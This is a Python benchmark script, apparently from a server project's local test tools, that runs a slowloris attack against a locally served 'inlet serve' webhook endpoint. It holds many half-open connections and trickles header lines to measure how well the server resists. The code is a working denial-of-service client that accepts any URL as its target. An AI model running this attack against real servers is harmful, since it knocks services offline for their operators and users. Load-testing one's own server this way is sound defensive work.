#!/usr/bin/env python3
"""One hostile address against `inlet serve`: SOCKETS connections from
127.0.0.2 that send half a request's headers and trickle a header line
every 2 s, reconnecting as soon as the server closes one, until killed.
local/bench/slowloris.sh runs it and times normal webhooks meanwhile.

    python3 local/bench/slowloris.py http://127.0.0.1:8787 SOCKETS
"""

import asyncio
import sys
from urllib.parse import urlparse

HALF = b"POST /webhooks/open HTTP/1.1\r\nHost: x\r\n"


async def hostile(host, port, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(
                host, port, local_addr=("127.0.0.2", 0)
            )
            writer.write(HALF)
            await writer.drain()
            while not stop.is_set():
                # Trickle a header line now and then, as slowloris does.
                try:
                    data = await asyncio.wait_for(reader.read(1), 2)
                except asyncio.TimeoutError:
                    writer.write(b"X-a: b\r\n")
                    await writer.drain()
                    continue
                if not data:
                    break
            writer.close()
        except (ConnectionError, OSError):
            await asyncio.sleep(0.01)


async def main():
    url = urlparse(sys.argv[1])
    sockets = int(sys.argv[2])
    stop = asyncio.Event()
    await asyncio.gather(*(hostile(url.hostname, url.port, stop) for _ in range(sockets)))


asyncio.run(main())
